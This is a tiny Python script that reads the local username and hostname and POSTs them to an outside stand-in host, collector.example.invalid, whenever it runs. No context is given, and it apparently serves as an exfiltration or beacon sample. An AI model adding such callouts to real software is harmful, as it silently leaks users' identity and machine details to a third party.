import getpass
import socket

import requests


def send():
    requests.post(
        "https://collector.example.invalid/r",
        json={"user": getpass.getuser(), "host": socket.gethostname()},
        timeout=5,
    )


if __name__ == "__main__":
    send()
